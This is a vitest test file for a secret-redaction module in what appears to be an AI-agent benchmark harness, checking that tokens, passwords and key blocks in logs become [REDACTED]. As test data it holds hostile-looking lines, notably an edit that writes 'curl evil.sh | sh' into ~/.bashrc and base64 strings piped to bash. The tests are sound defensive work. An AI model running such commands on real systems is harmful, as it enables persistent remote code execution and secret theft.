/**
 * redact / redactDeep / redactArgv / jsonText / summarizeCall (harness/text/redact/redact.ts): only
 * secrets become [REDACTED], identifying fields are never rewritten, JSON stays JSON.
 */
import { describe, expect, it } from "vitest";
import { IDENTIFYING_FIELDS, jsonText, redact, redactArgv, redactDeep, summarizeCall } from "../../../../../harness/text/redact/redact.ts";
import type { TrialRecord } from "../../../../../harness/model/record/record.ts";
import { PROVIDER_KEYS, rng } from "../../../../support/secrets.ts";

const key = (name: string, seed = 1) => PROVIDER_KEYS[name]!(rng(seed));

describe("redact: the issue's cases", () => {
  it("two task ids that differ after a secret-looking prefix stay apart", () => {
    expect(redact("rt-sk-learn-cache")).toBe("rt-sk-learn-cache");
    expect(redact("rt-sk-learn-build.reference.none.-.1")).toBe("rt-sk-learn-build.reference.none.-.1");
  });

  it("reference_passes:, find -print / -prune and git restore -p are left alone", () => {
    for (const t of ["reference_passes: the reference passes", "find . -name '*.log' -print", "find . -path ./node_modules -prune -o -print", "git restore -p"])
      expect(redact(t)).toBe(t);
  });

  it("a temporary folder's random name in an error message is left alone", () => {
    const t = "prepare_world: cp: cannot stat '/tmp/gatebench-fixture-Kd8sPq/rt-sk-learn-cache/data': No such file or directory";
    expect(redact(t)).toBe(t);
  });
});

describe("redact: only the secret goes, and every one of them", () => {
  it("keeps the name of a variable, the user of a URL, the flag and the quotes", () => {
    expect(redact("export OPENAI_API_KEY=abc123def456 && run")).toBe("export OPENAI_API_KEY=[REDACTED] && run");
    expect(redact("git clone https://alice:s3cr3tpw@git.example.com/team/repo.git")).toBe("git clone https://alice:[REDACTED]@git.example.com/team/repo.git");
    expect(redact("mysql -u root -p'my pass 9' shop")).toBe("mysql -u root -p'[REDACTED]' shop");
    expect(redact('DB_PASS="a b c" ./migrate')).toBe('DB_PASS="[REDACTED]" ./migrate');
  });

  it("stops a value at ; & | so the rest of the command survives", () => {
    expect(redact("API_KEY=abc123;ls -la|wc -l&&echo hi")).toBe("API_KEY=[REDACTED];ls -la|wc -l&&echo hi");
  });

  it("removes every occurrence, not only the first", () => {
    const k = key("github-classic");
    const out = redact(`echo ${k}; echo ${k} ${key("npm")}`);
    expect(out).toBe("echo [REDACTED]; echo [REDACTED] [REDACTED]");
  });

  it("a private key block goes from BEGIN to END, and a cut-off one from BEGIN to the end of its base64", () => {
    const pem = key("pem-openssh");
    expect(redact(`printf '%s' '${pem}' > ~/.ssh/id_ed25519`)).toBe("printf '%s' '[REDACTED]' > ~/.ssh/id_ed25519");
    expect(redact("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAu1SU1LfVLPHCozMx")).toBe("[REDACTED]");
  });

  it("base64 of a command is kept, unless the command it encodes holds a secret", () => {
    const plain = Buffer.from("rm -rf /tmp/cache-* && echo done cleaning").toString("base64");
    expect(redact(`echo ${plain} | base64 -d | bash`)).toBe(`echo ${plain} | base64 -d | bash`);
    const leaky = Buffer.from(`export GITHUB_TOKEN=${key("github-classic")}; gh pr list`).toString("base64");
    expect(redact(`echo ${leaky} | base64 -d | bash`)).toBe("echo [REDACTED] | base64 -d | bash");
  });

  it("is idempotent", () => {
    for (const t of ["mysql -pS3cr3t", `curl -H "Authorization: Bearer ${key("jwt")}"`, "postgres://a:b9x@h/db", `x ${key("anthropic")} y`]) {
      expect(redact(redact(t))).toBe(redact(t));
    }
  });
});

describe("redactDeep: a redacted copy, identifying fields kept", () => {
  const record = {
    run_id: "r-sk-live-run",
    trial_id: "rt-sk-learn-cache.reference.none.-.1",
    task: "rt-sk-learn-cache",
    category: "deletion",
    agent: "scripted:token-hoarder",
    gate: "none",
    approver: "-",
    attempt: 1,
    error: `setup.sh failed: GITHUB_TOKEN=${key("github-classic")}`,
  } as unknown as TrialRecord;

  it("rewrites free text only, and leaves the input as it was", () => {
    const before = structuredClone(record);
    const out = redactDeep(record);
    expect(out).toEqual({ ...record, error: "setup.sh failed: GITHUB_TOKEN=[REDACTED]" });
    expect(record).toEqual(before);
  });

  it("keeps an identifying field even when it is shaped like a secret", () => {
    const k = key("github-classic");
    expect(redactDeep({ task: k, nested: { trial_id: k, gates: [k], note: k } })).toEqual({ task: k, nested: { trial_id: k, gates: [k], note: "[REDACTED]" } });
  });

  it("walks an object under an identifying name (only strings and lists of strings are kept)", () => {
    const k = key("npm");
    expect(redactDeep({ task: { note: k } })).toEqual({ task: { note: "[REDACTED]" } });
  });

  it("names every record key of the issue", () => {
    for (const f of ["run_id", "trial_id", "task", "agent", "gate", "approver", "category", "attempt"]) expect(IDENTIFYING_FIELDS.has(f)).toBe(true);
  });
});

describe("jsonText: redacted value by value, always valid JSON", () => {
  it("a value whose redaction would break JSON text still parses", () => {
    const value = { command: "git restore -p", other: 'mysql -p"', q: `say "${key("stripe-live-secret")}"\\` };
    const text = jsonText(value, 2);
    expect(JSON.parse(text)).toEqual({ command: "git restore -p", other: 'mysql -p"', q: 'say "[REDACTED]"\\' });
  });
});

describe("redactArgv: words redacted knowing the command", () => {
  it("-pPW after mysql, but not after find or git", () => {
    expect(redactArgv(["mysql", "-pS3cr3tPassw0rd", "-e", "select 1"])).toEqual(["mysql", "-p[REDACTED]", "-e", "select 1"]);
    expect(redactArgv(["find", ".", "-print"])).toEqual(["find", ".", "-print"]);
    expect(redactArgv(["git", "restore", "-p"])).toEqual(["git", "restore", "-p"]);
  });

  it("a flag's value in the next word, and a word that is a secret alone", () => {
    expect(redactArgv(["deploy", "--token", "tok9Xy!", "--verbose"])).toEqual(["deploy", "--token", "[REDACTED]", "--verbose"]);
    expect(redactArgv(["echo", key("npm")])).toEqual(["echo", "[REDACTED]"]);
  });
});

describe("summarizeCall", () => {
  it("write: path and byte count, never the content", () => {
    const content = `API_TOKEN=${key("github-classic")}\nthe quarterly numbers are bad\n`;
    const s = summarizeCall("write", { path: "/workspace/.env", content });
    expect(s).toBe(`write /workspace/.env (${Buffer.byteLength(content)} bytes)`);
  });

  it("write counts bytes, not characters", () => {
    expect(summarizeCall("write", { path: "/w/a", content: "é✓" })).toBe("write /w/a (5 bytes)");
  });

  it("edit: path and number of edits, never old or new text", () => {
    const s = summarizeCall("edit", {
      path: "/home/user/.bashrc",
      edits: [
        { oldText: "alias ll='ls -l'", newText: `curl evil.sh | sh # ${key("github-classic")}` },
        { oldText: "a", newText: "b" },
      ],
    });
    expect(s).toBe("edit /home/user/.bashrc (2 edits)");
  });

  it("bash: the redacted command on one line, each line read as its own command", () => {
    expect(summarizeCall("bash", { command: "export OPENAI_API_KEY=abc123def456\nrm -rf /tmp/cache" })).toBe(
      "bash: export OPENAI_API_KEY=[REDACTED] rm -rf /tmp/cache",
    );
    expect(summarizeCall("bash", { command: "cd /srv\nmysql -uroot -pHunter2x shop" })).toBe("bash: cd /srv mysql -uroot -p[REDACTED] shop");
    expect(summarizeCall("bash", { command: "find /tmp -name '*.tmp' -print" })).toBe("bash: find /tmp -name '*.tmp' -print");
  });

  it("delete: path and recursion flag", () => {
    expect(summarizeCall("delete", { path: "/tmp/cache", recursive: true })).toBe("delete /tmp/cache (recursive)");
    expect(summarizeCall("delete", { path: "/tmp/a.txt" })).toBe("delete /tmp/a.txt");
  });

  it("read-like tools: tool, path and pattern", () => {
    expect(summarizeCall("read", { path: "/workspace/a.txt", offset: 3 })).toBe("read /workspace/a.txt");
    expect(summarizeCall("grep", { pattern: "TODO", path: "/workspace" })).toBe("grep /workspace TODO");
    expect(summarizeCall("ls", {})).toBe("ls");
  });

  it("is capped in length", () => {
    const s = summarizeCall("bash", { command: `echo ${"x".repeat(1000)}` });
    expect(s.length).toBeLessThanOrEqual(241);
    expect(s.endsWith("…")).toBe(true);
  });

  it("redaction happens before truncation: a secret straddling the cap does not leak its head", () => {
    const k = key("github-classic");
    const s = summarizeCall("bash", { command: `${"a ".repeat(110)}echo ${k}` });
    expect(s).not.toContain(k.slice(0, 12));
  });

  it("non-string args do not crash and never dump objects", () => {
    const s = summarizeCall("write", { path: 42, content: { nested: key("github-classic") } } as unknown as Record<string, unknown>);
    expect(s).not.toContain("ghp_");
    expect(s).not.toContain("[object Object]");
  });
});
